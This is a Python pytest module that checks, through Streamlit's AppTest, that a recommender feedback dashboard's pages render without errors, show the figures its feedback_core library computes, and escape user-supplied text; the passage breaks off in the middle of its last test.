"""The dashboard through Streamlit's AppTest: every page renders without an exception and shows
the numbers feedback_core computes; approve, reject, start retrain and activate go through the
confirmation dialog and ``authz.Operator``, and their effects land in the database and audit log.
"""

from __future__ import annotations

import shutil
import sqlite3
from datetime import datetime, time, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import PG_URL
from dashboard_data import HOSTILE_TEXT, HOSTILE_TITLE, _version, build_sample
from helpers import add_version
from sqlalchemy import Engine, delete, event, func, insert, select, update
from sqlalchemy.engine import make_url
from streamlit.testing.v1 import AppTest

from dashboard import charts, data, identity, ui, wording
from feedback_core import FeedbackSystem, Settings, lookups, queries
from feedback_core.db import make_engine, upgrade_database, write_transaction
from feedback_core.schema import audit_log, daily_dislikes, model_versions, retrain_jobs
from feedback_core.settings import REASONS

APP = Path(__file__).resolve().parent.parent / "dashboard" / "app.py"
PAGES = ["overview", "reasons", "errors", "versions", "adjustments", "retrain", "users", "audit"]
TIMEOUT = 30
INBOX_DRAWN = "inbox_table_name"  # the Adjustments page's inbox table drawn last: its rows are selected


def inbox_key(at: AppTest) -> str:
    """The key of the inbox table the page drew last (its name changes with its rows)."""
    return f"table_{at.session_state[INBOX_DRAWN]}"


@pytest.fixture(scope="module")
def sample_file(tmp_path_factory) -> Path:
    """Build the sample once (SQLite); tests that write get their own copy."""
    path = tmp_path_factory.mktemp("dashboard") / "sample.db"
    settings = Settings(database_url=f"sqlite:///{path}", FEEDBACK_ACCUMULATION_THRESHOLD=1_000_000)
    engine = make_engine(settings)
    upgrade_database(engine)
    system = FeedbackSystem(engine, settings)
    build_sample(system)
    system.close()
    with sqlite3.connect(path) as conn:  # fold the WAL in so that copying the file copies everything
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path


@pytest.fixture
def dashboard_env(monkeypatch):
    """Local-mode identity with every role, and settings the pages read."""
    monkeypatch.setenv("FEEDBACK_OPERATOR", "ops@example.com")
    monkeypatch.setenv("FEEDBACK_OPERATOR_ROLES", "viewer,approver,admin")
    monkeypatch.delenv("FEEDBACK_DB_URL", raising=False)
    return monkeypatch


@pytest.fixture
def shared_db(sample_file, dashboard_env) -> FeedbackSystem:
    """The read-only sample, for tests that only look."""
    url = f"sqlite:///{sample_file}"
    dashboard_env.setenv("FEEDBACK_DB_URL", url)
    system = FeedbackSystem.from_url(url)
    yield system
    system.close()


@pytest.fixture
def own_db(sample_file, dashboard_env, tmp_path) -> FeedbackSystem:
    """A private copy of the sample, for tests that act."""
    path = tmp_path / "own.db"
    shutil.copy(sample_file, path)
    url = f"sqlite:///{path}"
    dashboard_env.setenv("FEEDBACK_DB_URL", url)
    system = FeedbackSystem.from_url(url)
    yield system
    system.close()


def open_page(page: str, at: AppTest | None = None) -> AppTest:
    at = at or AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    if page != "overview" or at.session_state["filter_dates"] is None:
        at.switch_page(f"app_pages/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def note_key(at: AppTest) -> str:
    """The rejection note's key (renewed after each rejection)."""
    return f"reject_note#{at.session_state['generation_reject_note'] if 'generation_reject_note' in at.session_state else 0}"


def table(at: AppTest, *columns: str):
    """Return the first table showing all these columns."""
    for frame in at.dataframe:
        if set(columns) <= set(frame.value.columns):
            return frame.value
    raise AssertionError(f"no table with columns {columns}")


def column_labels(at: AppTest, column: str) -> list[str]:
    """The labels of the first table showing ``column``, as the page names its columns."""
    import json

    for frame in at.dataframe:
        if column in frame.value.columns:
            config = json.loads(frame.proto.columns or "{}")
            return [
                (config.get(f"col:{name}") or config.get(name) or {}).get("label") or name
                for name in frame.value.columns
            ]
    raise AssertionError(f"no table with column {column}")


def select_rows(at: AppTest, *rows: int) -> AppTest:
    """Select these rows of the inbox table (0 is the first shown), as ticking their boxes does.

    AppTest cannot click a table's rows; it sets the selection the browser would send.
    """
    at.session_state[inbox_key(at)] = {"selection": {"rows": list(rows)}}
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def pick(at: AppTest, ids: list[int]) -> AppTest:
    """Select the inbox rows showing these proposals."""
    shown = list(table(at, "adjustment_id", "evidence_dislikes")["adjustment_id"])
    return select_rows(at, *(shown.index(i) for i in ids))


def metric(at: AppTest, label: str) -> str:
    """The value of the metric labelled ``label`` (or ``label, <its period>``)."""
    return next(m.value for m in at.metric if m.label == label or m.label.startswith(f"{label}, "))


def metric_delta(at: AppTest, label: str) -> str | None:
    return next(m.delta for m in at.metric if m.label == label)


def confirm(at: AppTest) -> AppTest:
    """Press the dialog's confirm button."""
    at.button(key="confirm_action").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def audit_rows(system: FeedbackSystem, action: str) -> list:
    with system.engine.connect() as conn:
        return conn.execute(select(audit_log).where(audit_log.c.action == action)).all()


def said(boxes, *needles: str) -> bool:
    """Say whether one of these message boxes says every needle (flashes escape markdown)."""
    return any(all(ui.escape_markdown(n) in box.value for n in needles) for box in boxes)


def button_keys(at: AppTest) -> list:
    return [b.key for b in at.button]


def no_markdown_renders(at: AppTest, *needles: str) -> None:
    """User text never goes through markdown."""
    for element in [*at.markdown, *at.caption, *at.info, *at.success, *at.error, *at.warning]:
        for needle in needles:
            assert needle not in element.value


# ---------------------------------------------------------------- every page, its key numbers


def test_overview_shows_the_numbers_feedback_core_computes(shared_db):
    at = open_page("overview")
    bounds = queries.get_data_bounds(shared_db)
    metrics = shared_db.get_model_feedback_metrics()["metrics"]  # the window covers the whole sample
    overview = queries.get_overview(shared_db, bounds["first_day"], bounds["last_day"])
    assert metric(at, "Dislikes") == f"{metrics['total_dislikes']:,}"
    assert metric(at, "Impressions") == f"{metrics['total_impressions']:,}"
    rate = metrics["dislike_rate"]
    assert metric(at, "Dislike rate") == f"{rate['rate'] * 100:.2f}%"
    interval = f"95% interval {rate['ci_low'] * 100:.1f}–{rate['ci_high'] * 100:.1f}%"
    assert interval in [c.value for c in at.caption]
    assert overview["current"]["dislikes"] == metrics["total_dislikes"]
    assert metric(at, "Untrained examples") == f"{shared_db.get_untrained_negative_feedback_count():,} / 20"
    assert metric(at, "Active version") == "v2"
    check = queries.get_latest_day_check(shared_db, bounds["last_day"])
    banner = {"better": at.success, "worse": at.error, "steady": at.info}[check["status"]]
    assert any("significantly" in b.value or "no significant" in b.value for b in banner)
    rates = table(at, "day", "version", "dislike_rate")
    assert int(rates["impressions"].sum()) == metrics["total_impressions"]
    assert "Signed in as ops@example.com · admin, approver, viewer (local mode)" in [t.value for t in at.text]
    at.session_state["filter_versions"] = [3]  # the candidate never served: no rate, not 0%
    at.run()
    assert (metric(at, "Impressions"), metric(at, "Dislike rate")) == ("0", "—")
    assert "No rate: no impressions" in [c.value for c in at.caption]


def test_overview_compares_counts_only_with_a_window_the_data_covers_as_well(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    at = open_page("overview")

    def compared() -> bool:
        shown = bool(metric_delta(at, "Dislikes")) and bool(metric_delta(at, "Impressions"))
        said = any("counts are not compared" in c.value for c in at.caption)
        assert shown != said
        return shown

    # The window after the sample's first day: the window before it holds one day of data.
    at.session_state["filter_dates"] = (first + timedelta(days=1), last)
    at.run()
    overview = queries.get_overview(shared_db, first + timedelta(days=1), last)
    assert overview["previous"]["days_with_impressions"] < overview["current"]["days_with_impressions"]
    assert not compared()
    # This window running past the data: "-76 dislikes" would read as good news.
    at.session_state["filter_dates"] = (last - timedelta(days=1), last + timedelta(days=2))
    at.run()
    assert not compared()
    # Two windows of one day each, both with impressions: compared.
    at.session_state["filter_dates"] = (first + timedelta(days=1), first + timedelta(days=1))
    at.run()
    assert compared()


def test_overview_colours_a_rate_change_only_when_it_is_significant(shared_db):
    from feedback_core import stats

    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    at = open_page("overview")
    seen = set()
    middle = first + (last - first) / 2
    windows = [
        (day, day + timedelta(days=span - 1))
        for day in (first + timedelta(days=1), middle)
        for span in (1, 3)
    ]
    thin_seen = set()
    for start, end in [*windows, (middle, last), (first + timedelta(days=2), last)]:
        at.session_state["filter_dates"] = (start, end)
        at.run()
        overview = queries.get_overview(shared_db, start, end)
        now, before = overview["current"], overview["previous"]
        (rate,) = (m for m in at.metric if m.label == "Dislike rate")
        if not (now["dislike_rate"]["enough"] and before["dislike_rate"]["enough"]):
            assert not rate.delta, (start, end, now["dislike_rate"], before["dislike_rate"])
            continue
        outcome, test = stats.compare_rates(
            before["attributed_dislikes"],
            before["impressions"],
            now["attributed_dislikes"],
            now["impressions"],
        )
        significant = outcome in ("lower", "higher")
        seen.add(significant)
        # A change within the noise is grey and says so; a significant one is coloured, with its p.
        assert rate.delta.endswith(", not significant") != significant, (start, end, rate.delta)
        grey = type(rate.proto).MetricColor.Name(rate.proto.color) == "GRAY"
        # ... unless the days before mostly hold no data: then grey, and said so.
        days = (end - start).days + 1
        thin = 0 < before["days_with_impressions"] * 2 < days
        thin_seen.add((thin, significant))
        assert grey == (not significant or thin), (start, end, rate.proto.color)
        said = any(
            c.value.startswith("Not coloured: the days before have impressions on") for c in at.caption
        )
        assert said == thin
        if significant:
            assert rate.delta.endswith(f"({ui.fmt_p(test.p_value)})")
    assert seen == {True, False}  # the windows give both kinds
    assert (True, True) in thin_seen  # and a significant change against thin days before


def test_the_latest_day_check_says_how_much_of_its_week_had_data(shared_db):
    first = queries.get_data_bounds(shared_db)["first_day"]
    end = first + timedelta(days=2)
    check = queries.get_latest_day_check(shared_db, end)
    assert check["latest_day"] == end and check["baseline_days"] == 2  # the sample's first two days
    at = open_page("overview")
    at.session_state["filter_dates"] = (first, end)
    at.run()
    boxes = [*at.success, *at.error, *at.info, *at.warning]
    assert any("the 7 days before (2 of them with impressions)" in b.value for b in boxes), [
        b.value for b in boxes
    ]


def test_overview_compares_no_counts_over_a_day_not_over_and_judges_only_its_own_days(own_db):
    from feedback_core.db import write_transaction
    from feedback_core.versions import activate

    bounds = queries.get_data_bounds(own_db)
    first = bounds["first_day"]
    items = [{"movie_id": m, "predicted_score": 0.9} for m in range(1, 41)]
    today = own_db.now().date()
    # A list on each of the last four days (today's shown now): both windows below are covered.
    for back in (3, 2, 1):
        noon = datetime.combine(today - timedelta(days=back), time(12))
        shown = own_db.record_recommendation_set(900 + back, items, model_version_id=2, shown_at=noon)
        own_db.save_dislike(900 + back, 1, recommendation_set_id=shown, predicted_score=0.9, reason="other")
    own_db.record_recommendation_set(900, items, model_version_id=2)
    at = open_page("overview")
    at.session_state["filter_dates"] = (today - timedelta(days=1), today)
    at.run()
    # Today's few minutes against a whole day: "-420 impressions" read as a drop.
    assert not metric_delta(at, "Dislikes") and not metric_delta(at, "Impressions")
    assert any(
        c.value.startswith(
            "Counts are not compared with the days before: the window's last day has not settled"
        )
        for c in at.caption
    ), [c.value for c in at.caption]
    at.session_state["filter_dates"] = (today, today)
    at.run()
    (rate,) = (m for m in at.metric if m.label == "Dislike rate")
    assert rate.value != "—" and not rate.delta  # today's rate only rises: no arrow for it
    # No day of a window of today alone has settled: the day judged was outside it.
    boxes = [*at.success, *at.error, *at.info, *at.warning]
    assert any(b.value.startswith("No day of this window has settled yet") for b in boxes)
    assert not any(
        "the latest settled day (UTC) with impressions in this selection" in b.value for b in boxes
    )
    # A past window is not said to be unsettled.
    at.session_state["filter_dates"] = (first, first + timedelta(days=9))
    at.run()
    assert not any(b.value.startswith("No day of this window has settled yet") for b in at.info)
    # One before the data is refused (the picker offers no earlier day), as a date typed there
    # is: the window before stays, and the sidebar says which window the page shows.
    at.session_state["filter_dates"] = (first - timedelta(days=20), first - timedelta(days=10))
    at.run()
    assert at.session_state["filter_dates"] == (first, first + timedelta(days=9))
    assert f"Showing {first:%d %b %Y} – {first + timedelta(days=9):%d %b %Y} (10 days)" in [
        c.value for c in at.sidebar.caption
    ]
    # A version activated in the week judged: said beside the verdict.
    judged = queries.get_latest_day_check(own_db, bounds["last_day"])["latest_day"]
    with write_transaction(own_db.engine) as conn:
        activate(conn, 3, "ops@example.com", datetime.combine(judged, time(9, 20)), "manual")
    data.refresh()
    at.session_state["filter_dates"] = (first, judged)
    at.run()
    assert any(
        c.value.startswith("Activated on the day judged or the week before it: ")
        and f"v3 activated {judged:%d %b} 09:20" in c.value
        for c in at.caption
    ), [c.value for c in at.caption]


def test_overview_judges_the_latest_settled_day_and_shows_today_without_a_verdict(own_db):
    last = queries.get_data_bounds(own_db)["last_day"]
    assert last < own_db.now().date()  # the sample lies in the past
    items = [{"movie_id": m, "predicted_score": 0.9} for m in range(1, 41)]
    set_id = own_db.record_recommendation_set(900, items, model_version_id=2)  # shown now, today
    own_db.save_dislike(900, 1, recommendation_set_id=set_id, predicted_score=0.9, reason="other")
    first = queries.get_data_bounds(own_db)["first_day"]
    for _ in range(2):  # the page reads the wall clock: once more if a day ended meanwhile
        today = own_db.now().date()
        at = open_page("overview")
        at.session_state["filter_dates"] = (first, today)  # the days judged are in the window
        at.run()
        if own_db.now().date() == today:
            break
    check = queries.get_latest_day_check(own_db, today)
    settled = (own_db.now() - queries.DAY_SETTLES).date() - timedelta(days=1)
    assert check["latest_day"] == min(last, settled)
    boxes = [*at.success, *at.error, *at.info, *at.warning]
    assert any(
        b.value.startswith(
            f"{check['latest_day']:%d %b}, the latest settled day (UTC) with impressions in this selection:"
        )
        for b in boxes
    )
    assert not any(f"{today:%d %b}, the latest" in b.value for b in boxes)
    so_far = f"Today so far ({today:%d %b}): 2.50% (0.4–12.9%). No verdict until 6 hours after the day ends"
    assert any(c.value.startswith(so_far) for c in at.caption), [c.value for c in at.caption]


def test_overview_says_how_many_dislikes_the_rate_leaves_out(shared_db):
    at = open_page("overview")
    bounds = queries.get_data_bounds(shared_db)
    now = queries.get_overview(shared_db, bounds["first_day"], bounds["last_day"])["current"]
    left_out = now["dislikes"] - now["attributed_dislikes"]
    assert left_out > 0  # the sample has dislikes without a list
    expected = f"{now['attributed_dislikes']:,} on shown lists (in the rate), {left_out:,} without a list"
    assert expected in [c.value for c in at.caption]


@pytest.mark.parametrize(
    "page,needles",
    [
        ("overview", [f"Days: {ui.ON_LIST_DAY}."]),
        ("reasons", [f"Distribution, over time and reason × genre: {ui.ON_LIST_DAY}.", ui.ON_DAY_MADE]),
        ("errors", [f"Here and in the histogram below, {ui.ON_LIST_DAY}."]),
        ("versions", ["a dislike counts with its list, on the day the list was shown"]),
        ("users", ["by the time each was made"]),
    ],
)
def test_each_page_says_which_day_a_dislike_counts_on(shared_db, page, needles):
    at = open_page(page)
    captions = [c.value for c in at.caption]
    for needle in needles:
        assert any(needle in c for c in captions), (needle, captions)
    if page == "reasons":  # the charts count on the list's day, the latest dislikes (and the films,
        # when their expander is opened) on the day made
        assert sum(ui.ON_DAY_MADE in c for c in captions) == 1
    if page == "errors":  # every figure of the page on one basis
        assert not any(ui.ON_DAY_MADE in c for c in captions)


def test_reasons_page_counts_and_shows_hostile_text_as_text(shared_db):
    at = open_page("reasons")
    bounds = queries.get_data_bounds(shared_db)
    expected = queries.list_reason_counts(shared_db, bounds["first_day"], bounds["last_day"])
    shown = table(at, "reason", "dislikes", "share")
    assert dict(zip(shown["reason"], shown["dislikes"])) == dict(
        zip(expected["reason"], expected["dislikes"])
    )
    latest = table(at, "feedback_text", "movie_title")
    assert HOSTILE_TEXT in set(latest["feedback_text"]) and HOSTILE_TITLE in set(latest["movie_title"])
    no_markdown_renders(at, "<script", "**Bold**", "# Heading")


def test_errors_page_means_equal_the_aggregates(shared_db):
    at = open_page("errors")
    bounds = queries.get_data_bounds(shared_db)
    errors = queries.list_error_by_version(shared_db, bounds["first_day"], bounds["last_day"])
    captions = [c.value for c in at.caption]
    for row in errors.itertuples():
        assert metric(at, f"Mean error, {row.version}") == f"{row.mean_prediction_error:.3f}"
        # Beside what the version predicted for everything it showed (the sample's dislikes
        # without a list have no version, and nothing was shown without one).
        shown = row.shown_mean_score
        compared = row.shown_scored and row.listed_scored
        expected = f"{row.listed_mean_error - shown:+.3f} vs all shown" if compared else ""
        assert metric_delta(at, f"Mean error, {row.version}") == expected
        if compared:
            assert any(c.endswith(f"; all it showed: {shown:.3f}") for c in captions)
        # What each version's mean and shares are of (the sample has unknown scores without a version).
        over = (
            f"over {row.dislikes:,} dislikes"
            if row.scored == row.dislikes
            else f"over the {row.scored:,} of {row.dislikes:,} dislikes whose score is known"
        )
        assert any(c.startswith(over) for c in captions), over
    assert errors["shown_scored"].gt(0).sum() >= 2
    unknown = int((errors["dislikes"] - errors["scored"]).sum())
    assert unknown > 0
    assert any(
        c.startswith(f"{unknown:,} dislikes of this window have no known predicted score.") for c in captions
    )
    mistakes = table(at, "high_score_dislikes", "title")
    assert list(mistakes["movie_id"]) == list(queries.list_confident_mistakes(shared_db)["movie_id"])
    # "no version" holds two kinds of dislike: the page says which (the sample has it).
    assert "no version" in set(errors["version"])
    assert any(c.startswith("No version: dislikes of lists the prior model served") for c in captions)


def test_versions_page_tells_a_version_that_never_served_from_one_with_few_impressions(own_db):
    own_db.retrain(actor="analyst@example.com")  # a new version, never active: no impressions
    versions = queries.list_versions(own_db)
    never = versions.loc[versions["impressions"] == 0, "version"].tolist()
    assert never  # it was said to have "too few impressions"
    at = open_page("versions")
    (caption,) = (c.value for c in at.caption if c.value.startswith("Not drawn: "))
    assert f"never served (no impressions): {', '.join(never)}" in caption


def test_versions_page_compares_like_the_system(shared_db):
    at = open_page("versions")
    reference = shared_db.compare_model_versions(1, 2)
    assert any(reference["verdict"] in box.value for box in [*at.success, *at.info])
    for side in ("a", "b"):
        online = reference[side]["online"]
        label = f"v{reference[side]['version_id']}"
        assert metric(at, f"Dislike rate of {label}").startswith(f"{online['rate'] * 100:.2f}%")
    registry = table(at, "version", "status", "trigger")
    assert list(registry["version"]) == ["v3", "v2", "v1"]
    # The online rate next to the version, not past a dozen columns of metadata.
    assert list(registry.columns[:5]) == ["version", "status", "dislike_rate", "impressions", "dislikes"]
    assert any("their difference is indicative only" in c.value for c in at.caption)


def test_an_active_first_version_is_the_baseline_of_the_newest_trained_against_it(own_db):
    parents = {v["version_id"]: v["parent_id"] for v in own_db.list_model_versions()}
    first = next(v for v, parent in parents.items() if parent is None)
    own_db.activate_model_version(first, "ops@example.com")
    data.refresh()
    at = open_page("versions")
    newest_child = max(v for v, parent in parents.items() if parent == first)
    assert (at.selectbox(key="compare_a").value, at.selectbox(key="compare_b").value) == (first, newest_child)


def test_the_registry_warns_of_versions_no_better_than_chance(own_db):
    at = open_page("versions")
    assert not any("No better than chance" in w.value for w in at.warning)
    with own_db.engine.begin() as conn:
        metrics = conn.execute(
            select(model_versions.c.metrics).where(model_versions.c.version_id == 2)
        ).scalar()
        conn.execute(
            update(model_versions)
            .where(model_versions.c.version_id == 2)
            .values(metrics={**metrics, "auc": 0.2066})
        )
    data.refresh()
    at = open_page("versions")
    (warning,) = [w.value for w in at.warning if "No better than chance" in w.value]
    assert "v2 (AUC 0.2066)" in warning and "v1" not in warning and "v3" not in warning


def test_picking_another_version_b_compares_it_with_its_parent(shared_db):
    parents = {v["version_id"]: v["parent_id"] for v in shared_db.list_model_versions()}
    at = open_page("versions")
    b = at.selectbox(key="compare_b").value
    assert at.selectbox(key="compare_a").value == parents[b]
    # A person picks another baseline, then another B: B is judged against its own parent.
    child = next(v for v, parent in parents.items() if parent is not None and v != b)
    at.selectbox(key="compare_a").set_value(next(v for v in parents if v not in (b, parents[child]))).run()
    at.selectbox(key="compare_b").set_value(child).run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.selectbox(key="compare_a").value == parents[child]
    reference = shared_db.compare_model_versions(parents[child], child)
    assert any(reference["verdict"] in box.value for box in [*at.success, *at.info, *at.error])


def test_a_version_that_never_served_is_compared_on_the_same_examples(own_db):
    """No online verdict for a candidate that never served: the page shows what training
    measured for both on the same examples, as the Retrain page does, and says the AUC gain."""

    active = own_db.get_active_model_version()
    candidate = add_version(
        own_db,
        active["version_id"],
        {
            "auc": 0.9,
            "active_on_same_holdout": {"auc": 0.61, "held_out": 240},
            "candidate_on_same_holdout": {"auc": 0.64, "held_out": 240},
            "auc_gain": {
                "auc_a": 0.65,
                "auc_b": 0.62,
                "difference": 0.03,
                "low": 0.01,
                "high": 0.05,
                "p_value": 0.002,
            },
        },
        weights=active["weights"],
    )
    data.refresh()
    page = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    page.session_state["compare_b"] = candidate
    at = open_page("versions", page.run())
    assert at.selectbox(key="compare_a").value == active["version_id"]
    a, b = f"v{active['version_id']}", f"v{candidate}"
    assert any(
        c.value.startswith("Offline, on the same 240 held-out examples")
        and f"{b} − {a} +0.0300 (95% interval +0.0100 to +0.0500), DeLong p = 0.002" in c.value
        for c in at.caption
    )
    same = table(at, "metric", a, b)
    first = same.set_index("metric").iloc[0]
    assert (first[a], first[b]) == (pytest.approx(0.61), pytest.approx(0.64))  # not its own run's 0.9


def test_a_first_version_is_compared_with_the_version_that_replaced_it(shared_db):
    """A version without a parent stood against the newest version of all (a candidate that
    never served: "no verdict yet"); it stands against the one activated after it."""
    versions = shared_db.list_model_versions()
    first = next(v["version_id"] for v in versions if v["parent_id"] is None)
    moments = [int(v) for v in queries.list_version_activations(shared_db)["model_version_id"]]
    replaced_by = [
        moments[i + 1] for i, v in enumerate(moments[:-1]) if v == first and moments[i + 1] != first
    ]
    assert replaced_by and replaced_by[-1] != max(v["version_id"] for v in versions)
    page = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    page.session_state["compare_b"] = first
    at = open_page("versions", page.run())
    assert at.selectbox(key="compare_a").value == replaced_by[-1]


def test_a_version_whose_parent_is_gone_is_compared_as_a_first_version_is(own_db):
    """A parent no longer in the registry (removed by hand) counts as none: the version stands
    against the one that replaced it, else the oldest trained against it; not the newest of all
    (a candidate that never served)."""

    versions = own_db.list_model_versions()
    first = next(v["version_id"] for v in versions if v["parent_id"] is None)
    active = own_db.get_active_model_version()
    child = active["version_id"]  # the sample's: trained against the first, never replaced
    assert active["parent_id"] == first
    trained_on_it = min(v["version_id"] for v in versions if v["parent_id"] == child)
    newest = add_version(own_db, active["version_id"], {"auc": 0.6}, weights=active["weights"])
    assert newest != trained_on_it
    path = own_db.engine.url.database
    own_db.close()
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA foreign_keys = OFF")
        conn.execute("DELETE FROM model_versions WHERE version_id = ?", (first,))
    data.refresh()
    page = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    page.session_state["compare_b"] = child
    at = open_page("versions", page.run())
    # Never replaced: the oldest version trained against it, not the newest of all.
    assert at.selectbox(key="compare_a").value == trained_on_it


def test_versions_page_colours_the_verdict_by_its_direction_and_names_the_days(shared_db):
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.session_state["compare_b"] = 1  # the worse version, judged against the better one
    at.session_state["compare_a"] = 2
    at = open_page("versions", at.run())
    worse = shared_db.compare_model_versions(2, 1)
    assert worse["outcome"] == "higher" and worse["p_value"] < 0.05
    # Each side's figures come from the days it served; the sample's versions never shared one.
    periods = {side: worse[side]["online"] for side in ("a", "b")}
    caption = next(c.value for c in at.caption if c.value.startswith("All-time figures"))
    for side, period in periods.items():
        assert f"v{worse[side]['version_id']} served {ui.fmt_days(period)}" in caption
    assert worse["shared_days"] is None
    assert any("served on different days" in w.value for w in at.warning)
    # The verdict box, read alone, carries the caveat too; over different days it is not
    # coloured as bad news (the days may be the difference).
    assert any(box.value == f"{worse['verdict']} (over different days)" for box in at.info)
    assert not any(worse["verdict"] in box.value for box in [*at.success, *at.error])


def test_a_comparison_over_the_days_both_versions_served_says_so(own_db):
    for version in (1, 2):  # both serve today, besides the days each served alone
        items = [{"movie_id": m, "predicted_score": 0.5} for m in range(1, 41)]
        own_db.record_recommendation_set(800 + version, items, model_version_id=version)
    for _ in range(2):  # the page reads the wall clock: once more if a day ended meanwhile
        today = own_db.now().date()
        at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
        at.session_state["compare_b"], at.session_state["compare_a"] = 2, 1
        at = open_page("versions", at.run())
        if own_db.now().date() == today:
            break
    assert any("served on different days" in w.value for w in at.warning)
    at.radio(key="compare_scope").set_value("shared days").run()
    shared = own_db.compare_model_versions(1, 2)["shared_days"]
    assert not any("served on different days" in w.value for w in at.warning)
    assert any(v.value.startswith(f"Both over the same days: {ui.fmt_days(shared)}") for v in at.info)
    labels = [m.label for m in at.metric if m.label.startswith("Dislike rate of")]
    assert labels == [f"Dislike rate of v{v}, {ui.fmt_days(shared)}" for v in (1, 2)]
    assert any("include today" in c.value for c in at.caption)
    judged = own_db.compare_model_versions(1, 2)["shared_days"]
    # Over the same days the colour follows the direction again.
    boxes = {"lower": at.success, "higher": at.error}.get(judged["outcome"], at.info)
    assert any(b.value == f"{judged['verdict']} (today still counting)" for b in boxes)


def test_rates_on_too_few_impressions_are_left_blank(own_db):
    end = queries.get_data_bounds(own_db)["last_day"]
    shown_at = datetime.combine(end, time(12))
    items = [{"movie_id": 1, "predicted_score": 0.5}, {"movie_id": 2, "predicted_score": 0.5}]
    set_id = own_db.record_recommendation_set(7, items, model_version_id=3, shown_at=shown_at)
    own_db.record_dislike(
        created_at=shown_at,
        user_id=7,
        movie_id=1,
        recommendation_set_id=set_id,
        reason="other",
        predicted_score=0.5,
    )
    at = open_page("overview")
    daily = table(at, "day", "version", "dislike_rate")
    few = daily[daily["version"] == "v3"]
    assert list(few["dislike_rate"]) == ["too few impressions (2)"]
    assert few[["rate", "ci_low", "ci_high"]].isna().all(axis=None)
    open_page("versions", at)
    registry = table(at, "version", "status", "trigger").set_index("version")
    # 1 of 2 is not shown as 50.0% (9.5–90.5%) beside "too few impressions (2)".
    assert registry.loc["v3", "dislike_rate"] == "too few impressions (2)"
    assert registry.loc["v3", ["rate", "ci_low", "ci_high"]].isna().all()
    assert registry.loc["v2", ["rate", "ci_low", "ci_high"]].notna().all()


def test_no_minimum_of_impressions_still_needs_one(own_db, dashboard_env):
    # FEEDBACK_MIN_IMPRESSIONS_FOR_RATE=0 is valid; the window before the sample has none.
    dashboard_env.setenv("FEEDBACK_MIN_IMPRESSIONS_FOR_RATE", "0")
    at = open_page("overview")
    rate = next(m for m in at.metric if m.label == "Dislike rate")
    assert rate.value.endswith("%") and not rate.delta
    open_page("versions", at)


def test_more_dislikes_than_impressions_break_no_page(own_db):
    # Aggregates gone wrong (another fix stops them being written): pages flag, never crash.
    with own_db.engine.begin() as conn:
        conn.execute(
            update(daily_dislikes)
            .where(daily_dislikes.c.model_version_id == 2, daily_dislikes.c.attributed == 1)
            .values(dislikes=daily_dislikes.c.dislikes + 100_000)
        )
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    for page in PAGES:
        open_page(page, at)
        if page == "overview":
            assert metric(at, "Dislike rate") == "—"
            assert "No rate: more dislikes than impressions" in [c.value for c in at.caption]
            assert any("more dislikes than impressions were counted" in w.value for w in at.warning)
        if page == "versions":
            assert metric(at, "Dislike rate of v2") == "more dislikes than impressions"
            assert any("no verdict: v2 counts more dislikes" in b.value for b in at.info)


def test_adjustments_page_lists_the_inbox_and_previews(shared_db):
    at = open_page("adjustments")
    inbox = lookups.list_adjustment_inbox(shared_db)
    shown = table(at, "adjustment_id", "evidence_dislikes")
    assert list(shown["adjustment_id"]) == list(inbox["adjustment_id"])
    first = int(inbox["adjustment_id"].iloc[0])
    pick(at, [first])
    assert not at.exception
    preview = lookups.preview_adjustment(shared_db, first)
    assert any(
        f"weight {preview['weight_before']:.2f} → {preview['weight_after']:.2f}" in t.value for t in at.text
    )


def test_adjustments_page_compares_approved_and_rejected_features_when_asked(own_db):
    """The pooled comparison is read only when its tab is open, and shows the library's figures."""
    from feedback_core import effects
    from feedback_core.schema import feature_adjustments

    # Half the sample's proposals decided each way halfway through its days (as if decided then).
    fa = feature_adjustments.c
    with write_transaction(own_db.engine) as conn:
        ids = conn.execute(select(fa.adjustment_id).order_by(fa.adjustment_id)).scalars().all()
    assert len(ids) > 20
    halfway = datetime(2026, 10, 26, 12, 0, 0)
    with write_transaction(own_db.engine) as conn:
        for status, chosen in (("applied", ids[::2]), ("rejected", ids[1::2])):
            conn.execute(
                update(feature_adjustments)
                .where(fa.adjustment_id.in_(chosen))
                .values(
                    status=status,
                    decided_by="ops@example.com",
                    decided_at=halfway,
                    applied_at=halfway if status == "applied" else None,
                )
            )
    data.refresh()
    at = open_page("adjustments")
    assert not any("exposure to the feature" in set(d.value.get("measure", [])) for d in at.dataframe)
    assert not any(m.label == "Exposure to the feature" for m in at.metric)
    at.session_state["adjustments_tab"] = "Do approvals work?"
    at.run()
    assert not at.exception
    pooled = effects.get_pooled_adjustment_effects(own_db, window_days=14)
    counts = pooled["summary"].drop_duplicates("group").set_index("group")
    assert counts.loc["approved", "decisions"] and counts.loc["rejected", "decisions"]
    shown = table(at, "measure", "group", "measured", "before", "after", "change")
    assert list(shown["group"]) == ["approved", "rejected"] * 3
    assert f"{int(counts.loc['approved', 'decisions']):,} features approved for" in at.caption[-1].value
    tiles = {m.label: m.value for m in at.metric}
    rows = pooled["summary"].set_index(["measure", "group"])
    for measure, name in (
        ("exposure", "Exposure to the feature"),
        ("overall_rate", "Dislike rate of everything"),
    ):
        a, b = rows.loc[(measure, "approved"), "change"], rows.loc[(measure, "rejected"), "change"]
        assert tiles[name] == f"{a * 100:+.0f}% vs {b * 100:+.0f}%"
    verdicts = [m.value for m in (*at.success, *at.info, *at.warning) if "after a rejection" in m.value]
    assert len(verdicts) == 1 and "In the 14 days after an approval" in verdicts[0]
    first_day = queries.get_data_bounds(own_db)["first_day"]
    assert any(
        c.value.startswith("Decided 26 Oct – 26 Oct 2026. ")
